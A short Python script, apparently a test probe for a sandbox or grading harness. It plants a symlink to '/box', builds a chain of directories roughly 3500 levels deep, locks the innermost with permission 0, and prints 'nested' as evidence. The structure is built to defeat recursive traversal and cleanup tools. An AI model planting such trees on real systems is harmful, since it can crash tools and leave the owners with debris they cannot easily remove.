# Leaves folders in folders, deeper than a recursion or a path can go, with a link to the top and a closed one at the end.
# evidence: nested
import os


def answer(question):
    os.symlink("/box", "up")
    depth = 0
    try:
        while depth < 3500:
            os.mkdir("d")
            os.chdir("d")
            depth += 1
        os.chmod(".", 0)
    except OSError as error:
        print(error)
    if depth > 2000:
        print("nested")
